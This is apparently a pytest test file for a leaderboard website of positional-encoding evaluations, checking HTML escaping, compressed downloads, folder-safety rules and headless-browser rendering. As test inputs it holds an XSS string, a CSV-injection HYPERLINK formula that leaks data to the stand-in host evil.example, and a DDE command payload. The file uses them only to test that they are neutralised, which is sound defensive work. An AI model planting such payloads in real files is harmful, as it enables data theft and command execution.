"""The static leaderboard site: built from a store of three encodings (one with a hostile name),
checked as HTML (escaping, downloads, run pages) and in Debian's headless Chromium through
Playwright (one row per encoding, sorting, drawn charts, no console errors, a screenshot)."""

import csv
import gzip
import io
import json
import math
import re
import shutil
from pathlib import Path

import pytest
from helpers.browser import check_in_browser

from leaderboard.ingest import ingest  # noqa: E402
from leaderboard.site import build_site  # noqa: E402

EVIL = "<script>alert(1)</script>"
#: (pe, pe_options, ppl at 64 / 128 / 256, passkey acc, addition acc) chosen by hand; 'nope' is worst
ENCODINGS = [
    ("rope", {}, (30.0, 45.0, 300.0), 0.5, 0.4),
    ("nope", {}, (32.0, 90.0, 900.0), 0.1, 0.2),
    ("tape", {"note": EVIL}, (29.0, 35.0, 60.0), 0.9, 0.8),
]


#: what the perplexity runs read (results.json peeval.data): the mirror's stand-in for PG-19
MIRROR_PG19 = {"peeval_ppl_pg19": [{"source": "mirror", "location": "local/gutenberg-eval", "split": "test",
                                    "documents": 2, "documents_sha256": "ab" * 32}]}  # fmt: skip


def _results(d: Path, ckpt: Path, results: dict, samples: list, data: dict | None = None):
    d.mkdir(parents=True)
    prov = {"peeval_version": "0.1.0", "git_commit": "abc", "model": "peeval", "model_args": {"pretrained": str(ckpt)},
            "checkpoint": str(ckpt), "pe": "x", "max_length": 320, "training_length": 64, "dtype": "torch.float32",
            "protocol": {"ppl": "disjoint windows"}, "seed": 0, "versions": {"lm_eval": "0.4.13"},
            "date": "2026-11-22T10:00:00+00:00", "data": data}  # fmt: skip
    (d / "results.json").write_text(json.dumps({"results": results, "peeval": prov}))
    (d / "samples_peeval_passkey.jsonl").write_text("".join(json.dumps(s) + "\n" for s in samples))


def _checkpoint(d: Path, pe: str, opts: dict, task=None, loss0=6.0):
    d.mkdir(parents=True)
    (d / "train_summary.json").write_text(json.dumps({"pe": pe, "pe_options": opts, "task": task, "seed": 0,
        "params": 1000, "steps": 3, "tokens": 300, "train_time_s": 2.0, "tokens_per_s": 150.0,
        "flops_per_token": 6000.0, "final_val_loss": loss0 - 1, "final_val_ppl": math.exp(loss0 - 1),
        "training_length": 64}))  # fmt: skip
    rows = "".join(f"{s},{100 * s},0.001,{loss0 - 0.4 * s},{'' if s % 2 else loss0 - 0.3 * s},{s}\n" for s in (1, 2, 3))
    (d / "train_curve.csv").write_text("step,tokens,lr,train_loss,val_loss,elapsed_s\n" + rows)


def make_store(root: Path) -> Path:
    """A store with three encodings: perplexity, passkey, addition diagnostics, curves, samples."""
    for pe, opts, ppl, pk, add in ENCODINGS:
        ck, dk = root / "checkpoints" / pe, root / "checkpoints" / f"{pe}-addition"
        _checkpoint(ck, pe, opts)
        _checkpoint(dk, pe, opts, task="addition", loss0=3.0)
        res = {
            "peeval_ppl_pg19": {f"ppl@{L},none": v for L, v in zip((64, 128, 256), ppl)}
            | {f"bpb@{L},none": math.log2(v) / 4 for L, v in zip((64, 128, 256), ppl)},
            "peeval_passkey": {"acc,none": pk, "acc_stderr,none": 0.1}
            | {f"acc@{L}@{d},none": pk for L in (64, 128, 256) for d in (0.0, 1.0)},
        }
        # ten documents per (length, depth) cell, pk of them right: the passkey acc and each cell are its samples'
        # shares (ingest recomputes every metric from its samples, issues 56 and 66)
        cells = [(L, d) for L in (64, 128, 256) for d in (0.0, 1.0)]
        samples = [{"doc_id": i, "target": "4242", "arguments": [[f"{EVIL} The pass key is 4242 #{i}", {}]],
                    "filtered_resps": [f"</td>{EVIL}"], "filter": "none",
                    "metrics": ["acc", f"acc@{cells[i // 10][0]}@{cells[i // 10][1]}"],
                    "acc": float(i % 10 < round(pk * 10)),
                    f"acc@{cells[i // 10][0]}@{cells[i // 10][1]}": float(i % 10 < round(pk * 10))}
                   for i in range(10 * len(cells))]  # fmt: skip
        _results(root / "results" / pe, ck, res, samples, MIRROR_PG19)
        diag = {
            "peeval_diag_addition_test": {"acc,none": add}
            | {f"acc@{a}x{b},none": add if a + b <= 4 else add / 4 for a in (1, 2, 3) for b in (1, 2, 3)}
        }
        _results(root / "results" / f"{pe}-addition", dk, diag, [])
    db = root / "peeval.duckdb"
    ingest([root / "results", root / "checkpoints"], db, root=root)
    return db


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    root = tmp_path_factory.mktemp("site")
    index = build_site(make_store(root), root / "site")
    return index


def test_pages_downloads_and_escaping(site):
    out = site.parent
    pages = ["index.html", "ppl.html", "passkey.html", "diagnostics.html", "training.html", "efficiency.html"]
    for p in pages:
        assert (out / p).is_file(), p
    runs = list((out / "runs").glob("*.html"))
    assert len(runs) == 6
    for f in [*out.glob("*.html"), *runs]:
        html = f.read_text()
        assert "<script>alert" not in html, f  # every hostile string arrives escaped
        # offline: nothing loaded from the network; the only outside addresses are links to the papers
        html = html.replace('xmlns="http://www.w3.org/2000/svg"', "")
        html = re.sub(r'<a href="https://arxiv\.org/abs/\d{4}\.\d{5}"', "<a", html)
        assert "http://" not in html and "https://" not in html, f
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in (out / "index.html").read_text()
    with open(out / "data" / "leaderboard.csv") as fh:
        rows = list(csv.DictReader(fh))
    assert sorted(r["encoding"] for r in rows) == sorted(["nope", "rope", f"tape(note={EVIL})"])
    nope = next(r for r in rows if r["encoding"] == "nope")
    assert float(nope["Gutenberg books (PG-19 substitute) ppl@256 ↓"]) == 900.0 and float(nope["passkey acc ↑"]) == 0.1
    with gzip.open(out / "data" / "runs.csv.gz", "rt", newline="") as fh:  # a store table: once, gzip'd CSV
        assert next(csv.DictReader(fh))["run_id"]
    assert not (out / "data" / "runs.json").exists() and not (out / "data" / "runs.csv").exists()
    linked = {p.name for p in runs}
    index = (out / "index.html").read_text()
    assert all(f"runs/{name}" in index for name in linked)


def test_a_family_page_without_runs_is_neither_built_nor_in_the_menu(site):
    """No RULER run in the store: no ruler.html and no menu entry on any page (it opened on "no RULER runs");
    tests/tasks/test_ruler.py shows both once a RULER run is ingested."""
    out = site.parent
    assert not (out / "ruler.html").exists()
    for f in out.glob("*.html"):
        assert 'href="ruler.html"' not in f.read_text(), f.name
    assert 'href="ppl.html"' in (out / "index.html").read_text()  # the pages that have runs stay linked


def test_every_term_a_page_links_to_the_glossary_is_defined_there(site):
    """The glossary (issue 58): each glossary.html#term a page links to is an id on the glossary page, and the
    front page links its terms (ppl ÷ RoPE, Welch df, within noise) the first time it uses them."""
    out = site.parent
    ids = set(re.findall(r'<dt id="([^"]+)"', (out / "glossary.html").read_text()))
    linked = {a for f in out.rglob("*.html") for a in re.findall(r"glossary\.html#([\w-]+)", f.read_text())}
    assert linked and linked <= ids, linked - ids
    front = (out / "index.html").read_text()
    for term in ("ppl-ratio", "welch", "within-noise", "interval"):
        assert f"glossary.html#{term}" in front, term


def test_each_store_table_is_written_once_compressed_and_whole(site):
    """Issue 58: a published site was 285 MB, most of it each store table twice (CSV and JSON) and every run's
    samples, metrics and data tables a third time. Now a store table is one gzip'd CSV holding every row, and no
    per-run download repeats it."""
    import duckdb

    out = site.parent / "data"
    con = duckdb.connect(str(site.parent.parent / "peeval.duckdb"), read_only=True)
    try:
        for t in ("runs", "metrics", "samples", "task_data"):
            assert not (out / f"{t}.csv").exists() and not (out / f"{t}.json").exists(), t
            rows = list(csv.reader(io.StringIO(gzip.decompress((out / f"{t}.csv.gz").read_bytes()).decode(),
                                               newline="")))  # fmt: skip
            assert len(rows) - 1 == con.execute(f"select count(*) from {t}").fetchone()[0], t
    finally:
        con.close()
    per_run = [p.name for p in out.iterdir() if re.search(r"_[0-9a-f]{16}\.", p.name)]
    assert per_run == [], per_run
    page = next((site.parent / "runs").glob("*.html")).read_text()
    assert "../data/samples.csv.gz" in page


@pytest.mark.slow
def test_each_published_board_builds_a_site_under_30_mb(tmp_path):
    """The published profiles' sites (`make site`): each at most 30 MB (before issue 58: 87 and 285 MB)."""
    from conftest import REPO

    from leaderboard.ingest import ingest as ingest_published

    for profile in ("cpu", "cpu-claims"):
        folder = Path(REPO) / "leaderboard" / "published" / profile
        db = tmp_path / profile / "peeval.duckdb"
        db.parent.mkdir()
        ingest_published([folder], db)
        site = build_site(db, tmp_path / profile / "site").parent
        size = sum(p.stat().st_size for p in site.rglob("*") if p.is_file())
        assert size <= 30e6, (profile, size)


def test_claims_page_hook(tmp_path, monkeypatch):
    from leaderboard.site import claims_page as mod

    monkeypatch.setattr(
        mod,
        "render_claims_page",
        lambda con, labels=None, hidden=frozenset(): "<!doctype html><title>claims</title><p>claims</p>",
    )
    index = build_site(make_store(tmp_path), tmp_path / "site")
    assert (index.parent / "claims.html").read_text().endswith("<p>claims</p>")
    assert 'href="claims.html"' in index.read_text()
    # an empty claims table: no page, no link
    monkeypatch.setattr(mod, "render_claims_page", lambda con, labels=None, hidden=frozenset(): None)
    index = build_site(tmp_path / "peeval.duckdb", tmp_path / "site2")
    assert not (index.parent / "claims.html").exists() and "claims.html" not in index.read_text()


def test_site_in_headless_chromium(site, tmp_path):
    shot = tmp_path / "site.png"
    check_in_browser(site, len(ENCODINGS), shot, hostile=True)
    assert shot.stat().st_size > 10_000
    report = Path("/tmp/pipeline")
    if report.is_dir():
        shutil.copy(shot, report / "site_test.png")


def test_leaderboard_columns_lead_with_perplexity(site):
    """Perplexity (within, then beyond the training length) before passkey before diagnostics; seed counts shown."""
    with open(site.parent / "data" / "leaderboard.csv") as fh:
        header = next(csv.reader(fh))
    tiers = [0 if " ppl@" in h else 1 if h.startswith("passkey") else 2 if h.startswith("addition") else 3
             for h in header[1:]]  # fmt: skip
    assert tiers == sorted(tiers) and tiers[0] == 0 and 2 in tiers, header
    ppl = [int(h.split("@")[1].split()[0]) for h in header[1:] if " ppl@" in h]
    assert ppl == sorted(ppl) and len(ppl) == 2
    assert "(1 seed)" in (site.parent / "index.html").read_text()


def test_claims_page_puts_decided_verdicts_first():
    import duckdb

    from leaderboard.site.claims_page import render_claims_page

    con = duckdb.connect()
    con.execute(
        "create table claims (claim_id varchar, paper varchar, ref varchar, task varchar, metric varchar, "
        "compared varchar, paper_value double, peeval_value double, stderr double, n integer, seeds integer, "
        "verdict varchar, setting_diff varchar, run_ids varchar)"
    )
    for cid, verdict in (("a-first", "inconclusive"), ("b-second", "contradicted"), ("c-third", "reproduced")):
        con.execute(
            "insert into claims values (?, 'PoPE', 'T1', 't', 'acc', 'x vs y', 1, 1, 0.1, 10, 3, ?, '', '[]')",
            [cid, verdict],
        )
    html = render_claims_page(con)
    # the table rows (tr id=<claim id>): decided first, reproduced before contradicted, then inconclusive
    assert html.index('id="c-third"') < html.index('id="b-second"') < html.index('id="a-first"')


def test_out_with_the_users_files_is_refused_and_kept(tmp_path, capsys):
    """Issue 30: the site replaces its folder whole, so a folder holding someone else's files is
    refused (one line, exit 2) and every file stays; no temporary folder is left beside it."""
    from leaderboard.site import main

    db = make_store(tmp_path / "store")
    mine = tmp_path / "mine"
    (mine / "notes").mkdir(parents=True)
    (mine / "thesis.tex").write_text("my thesis")
    (mine / "notes" / "a.txt").write_text("a")
    before = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*"))
    assert main(["--db", str(db), "--out", str(mine)]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "--out" in err[0] and "thesis.tex" in err[0], err
    assert sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*")) == before
    assert (mine / "thesis.tex").read_text() == "my thesis"


def test_out_that_is_a_site_or_empty_is_rebuilt(tmp_path):
    from leaderboard.site import MARKER

    db = make_store(tmp_path / "store")
    (tmp_path / "empty").mkdir()
    index = build_site(db, tmp_path / "empty")
    manifest = json.loads((index.parent / MARKER).read_text())
    on_disk = sorted(p.relative_to(index.parent).as_posix() for p in index.parent.rglob("*") if p.is_file())
    assert manifest["files"] == on_disk  # the manifest lists every file of the build, itself included
    # a page a previous build wrote (in its manifest) of a run no longer in the store: replaced whole, gone
    (index.parent / "runs" / "stale-run.html").write_text("a page of a run no longer in the store")
    manifest["files"].append("runs/stale-run.html")
    (index.parent / MARKER).write_text(json.dumps(manifest))
    index = build_site(db, index.parent)
    assert not (index.parent / "runs" / "stale-run.html").exists()
    legacy = tmp_path / "legacy"  # a site built before the manifest: its files, a stale run page among them
    shutil.copytree(index.parent, legacy)
    (legacy / MARKER).write_text("A static site written by peeval's leaderboard.site: rebuilt whole on every build.\n")
    (legacy / "runs" / "0123456789abcdef.html").write_text("old")
    assert build_site(db, legacy).is_file() and not (legacy / "runs" / "0123456789abcdef.html").exists()


def test_out_with_a_sites_files_beside_the_users_is_refused_and_kept(tmp_path, capsys):
    """Issue 42 item 5: a folder holding index.html + assets/site.css + assets/site.js (what every old site had)
    beside the user's own files (their store, notes) was taken for a site and replaced whole, every file of it
    deleted, exit 0. Now the site deletes only files it wrote: such a folder is refused and every file stays;
    so is a built site (with its manifest) into which the user put a file of their own."""
    from leaderboard.site import main

    db = make_store(tmp_path / "store")
    mine = tmp_path / "mine"
    (mine / "assets").mkdir(parents=True)
    for f in ("index.html", "assets/site.css", "assets/site.js"):
        (mine / f).write_text("an old page")
    shutil.copy(db, mine / "peeval.duckdb")
    (mine / "notes.txt").write_text("my notes")
    before = {p.relative_to(mine).as_posix(): p.read_bytes() for p in mine.rglob("*") if p.is_file()}
    assert main(["--db", str(db), "--out", str(mine)]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "--out" in err[0] and "peeval.duckdb" in err[0], err
    assert {p.relative_to(mine).as_posix(): p.read_bytes() for p in mine.rglob("*") if p.is_file()} == before

    built = build_site(db, tmp_path / "built").parent
    (built / "data" / "my-analysis.csv").write_text("a,b\n")
    assert main(["--db", str(db), "--out", str(built)]) == 2
    assert "my-analysis.csv" in capsys.readouterr().err
    assert (built / "data" / "my-analysis.csv").read_text() == "a,b\n"


def test_csv_downloads_never_hold_a_formula(tmp_path):
    """Issue 42 item 3: a model named ``=HYPERLINK(...)`` (an external lm-eval run's name is the model's) was
    written raw into data/runs.csv, a formula a spreadsheet runs. Every text cell starting with =, +, -, @, a tab
    or a carriage return is written with a leading ' (the text kept); numbers are written as they are."""
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    texts = [evil, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    root = tmp_path / "r"
    for i, model in enumerate(texts):
        d = root / f"run{i}"
        d.mkdir(parents=True)
        prov = {"model": model, "model_args": {}, "checkpoint": None, "date": "2026-11-22T10:00:00+00:00",
                "seed": i}  # fmt: skip
        (d / "results.json").write_text(json.dumps({"results": {"arc_easy": {"acc,none": 0.25 + i / 100,
                                                    "acc_stderr,none": 0.01}}, "peeval": prov}))  # fmt: skip
    db = tmp_path / "s.duckdb"
    ingest([root], db, root=tmp_path)
    site = build_site(db, tmp_path / "site").parent
    names = set()
    for f in [*(site / "data").glob("*.csv"), *(site / "data").glob("*.csv.gz")]:  # a store table: gzip'd
        text = gzip.decompress(f.read_bytes()).decode() if f.suffix == ".gz" else f.read_text(encoding="utf-8")
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (f.name, cell)
                names.add(cell)
    assert {"'" + t for t in texts} <= names  # each name kept, as text
    runs = json.loads((site / "data" / "runs_list.json").read_text())
    assert sorted(r["name"] for r in runs) == sorted(texts)  # the JSON download holds the names as they are


def test_failed_site_build_leaves_no_temporary_folder(tmp_path, monkeypatch):
    from leaderboard.site import output as mod

    db = make_store(tmp_path / "store")
    out = tmp_path / "out"
    build_site(db, out)
    before = (out / "index.html").read_text()

    def full_disk(tmp, target):
        raise OSError(28, "No space left on device", str(target))

    monkeypatch.setattr(mod, "replace_dir", full_disk)
    with pytest.raises(OSError):
        build_site(db, out)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "store"]
    assert (out / "index.html").read_text() == before


def test_pages_share_one_base_template_that_escapes_by_default(tmp_path):
    """Every page fills leaderboard/site/templates/base.html, the claims page by extending it; a text is escaped
    unless the code marks it as built HTML."""
    from leaderboard.site import pages

    html = pages.render("base.html", title="<b>t</b>", prefix="../", links=pages.nav(False), body="<i>x</i>")
    assert "<title>&lt;b&gt;t&lt;/b&gt; · peeval</title>" in html and "<main>&lt;i&gt;x&lt;/i&gt;</main>" in html
    assert 'href="../claims.html"' not in html and '<a href="../data.html">Data</a>' in html
    assert "<main><i>x</i></main>" in pages.render("base.html", title="t", prefix="", links=[],
                                                   body=pages.Markup("<i>x</i>"))  # fmt: skip
    index = build_site(make_store(tmp_path), tmp_path / "site")
    for page in ("index.html", "ppl.html", "runs"):
        files = sorted((index.parent / page).glob("*.html")) if page == "runs" else [index.parent / page]
        head = files[0].read_text()
        assert head.startswith('<!doctype html><html lang="en"><head><meta charset="utf-8"><title>')
        assert '<a href="../index.html">Leaderboard</a>' in head if page == "runs" else 'href="index.html"' in head
    claims = (index.parent / "claims.html").read_text()  # the store's empty claims table: a page with no rows
    assert claims.startswith('<!doctype html><html lang="en"><head><meta charset="utf-8"><title>claims: ')
    assert "<header><h1>peeval · claims: " in claims and '<nav><a href="index.html">Leaderboard</a>' in claims
    assert "<script" not in claims and 'href="assets/site.css"' in claims


@pytest.fixture(scope="module")
def published_sites(tmp_path_factory) -> dict[str, Path]:
    """Both published boards built as `make site` builds them (ingest, the claims stage, the site): {profile: site}."""
    import subprocess
    import sys

    from conftest import REPO

    out = {}
    for profile in ("cpu", "cpu-claims"):
        d = tmp_path_factory.mktemp(profile)
        db = d / "peeval.duckdb"
        ingest([Path(REPO) / "leaderboard" / "published" / profile], db)
        subprocess.run([sys.executable, str(Path(REPO) / "pipelines" / "claims.py"), "--db", str(db), "--source",
                        f"published/{profile}"], check=True, capture_output=True, cwd=d)  # fmt: skip
        out[profile] = build_site(db, d / "site").parent
    return out


@pytest.mark.slow  # two published boards built as `make site` does, ~30 pages at two widths: ~100 s
def test_every_page_of_both_published_boards_reads_whole_at_1400_and_390_px(published_sites):
    """Issue 58's Done-when: each page of both published boards (every top-level page, the compare page with its
    pair loaded, a run page of each kind) at 1400 x 900 and 390 x 844: no page scrolls sideways, no text is cut
    (clipped HTML, a table cell squeezed to a character a line, a chart's text outside its picture), every chart has
    a drawn title and a legend inside it (helpers.browser.PAGE_PROBLEMS_JS); the front page's first screen holds the
    picture, whose row names are whole."""
    from helpers.browser import CHROMIUM, CHROMIUM_FLAGS, page_problems

    if not Path(CHROMIUM).exists():
        pytest.skip(f"no Chromium at {CHROMIUM} (.ci/run installs Debian's chromium)")
    from playwright.sync_api import sync_playwright

    problems, errors = [], []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_FLAGS, headless=True)
        try:
            for profile, site in published_sites.items():
                runs = json.loads((site / "data" / "runs_list.json").read_text())
                one_per_kind = {r["kind"]: r["run"] for r in runs}
                run_pages = [site / "runs" / f"{rid}.html" for rid in one_per_kind.values()]
                pages = [*sorted(site.glob("*.html")), *run_pages]
                assert len(pages) >= 14, pages
                for width, height in ((1400, 900), (390, 844)):
                    page = browser.new_page(viewport={"width": width, "height": height})
                    page.on("pageerror", lambda e: errors.append(str(e)))
                    for f in pages:
                        page.goto(f.as_uri())
                        if f.name == "compare.html":
                            page.wait_for_function("!document.getElementById('paired').textContent.includes('loading')")
                        problems += [f"{profile} {width}px {f.name}: {x}" for x in page_problems(page, width)]
                    page.goto((site / "index.html").as_uri())
                    pic = page.locator("#picture svg.chart").first.bounding_box()
                    assert pic and pic["y"] < height / 2 and pic["x"] + pic["width"] <= width + 1, (profile, width, pic)
                    if width == 1400:  # the whole first chart, and the reading, on the first screen
                        assert pic["y"] + pic["height"] <= height, (profile, pic)
                    names = page.locator("#picture svg.chart").first.locator("text.legend[text-anchor=end]")
                    shown = [" ".join(t.split()) for t in names.evaluate_all("ts => ts.map(t => "
                             "Array.from(t.querySelectorAll('tspan'), s => s.textContent).join(' '))")]  # fmt: skip
                    whole = names.evaluate_all("ts => ts.map(t => t.querySelector('title').textContent)")
                    assert [s.replace(" ", "") for s in shown] == [w.replace(" ", "") for w in whole], shown
                    page.close()
        finally:
            browser.close()
    assert not problems, "\n".join(problems[:40])
    assert not errors, errors
